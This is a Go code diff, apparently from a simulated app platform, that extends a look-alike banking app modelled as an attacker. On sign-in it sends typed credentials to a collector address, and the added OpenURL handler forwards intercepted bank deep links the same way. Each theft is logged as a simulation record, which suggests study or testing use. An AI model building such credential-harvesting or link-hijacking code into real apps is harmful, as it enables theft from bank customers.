@@ -19,10 +19,11 @@ import (
 // label, which is the bank's.
 const name = "com.harbourbank.app2"
 
-// Typed is what somebody typed into the look-alike app.
+// Typed is what somebody typed into the look-alike app, or a link that it was opened with.
 type Typed struct {
-	User     string `json:"user"`
-	Password string `json:"password"`
+	User     string `json:"user,omitempty"`
+	Password string `json:"password,omitempty"`
+	Link     string `json:"link,omitempty"`
 }
 
 // The look-alike app needs a program, and the attacker has no compiler at hand: it is
@@ -63,20 +64,24 @@ func newApp(system *sdk.System) (sdk.Handler, error) {
 // collectorAsset holds the address to which what was typed goes.
 const collectorAsset = "collector.txt"
 
-func (*app) Open(context.Context, string) error    { return nil }
-func (*app) OpenURL(context.Context, string) error { return nil }
+func (*app) Open(context.Context, string) error { return nil }
+
+// OpenURL passes on a link that was meant for another app.
+func (a *app) OpenURL(ctx context.Context, link string) error {
+	return a.send(ctx, Typed{Link: link}, "an app that claims the bank's links sent one to its maker")
+}
 
 // Tap has one interesting button.
 func (a *app) Tap(ctx context.Context, tap sdk.Tap) (sdk.Screen, error) {
 	if tap.What == sdk.SignIn {
-		if err := a.send(ctx, Typed{tap.User, tap.Password}); err != nil {
+		if err := a.send(ctx, Typed{User: tap.User, Password: tap.Password}, "a look-alike app sent a name and a password to its maker"); err != nil {
 			return sdk.Screen{Error: err.Error()}, nil
 		}
 	}
 	return sdk.Screen{SignIn: sdk.InApp, Error: "Harbour Bank is being serviced. Please try again in an hour."}, nil
 }
 
-func (a *app) send(ctx context.Context, what Typed) error {
+func (a *app) send(ctx context.Context, what Typed, note string) error {
 	body, err := json.Marshal(what)
 	if err != nil {
 		return err
@@ -90,5 +95,5 @@ func (a *app) send(ctx context.Context, what Typed) error {
 		return errors.New("the app's server can't be reached")
 	}
 	_ = response.Body.Close() // nothing is in it
-	return a.system.Report(sdk.Record{Kind: traffic.Note, Summary: "a look-alike app sent a name and a password to its maker"})
+	return a.system.Report(sdk.Record{Kind: traffic.Note, Summary: note})
 }
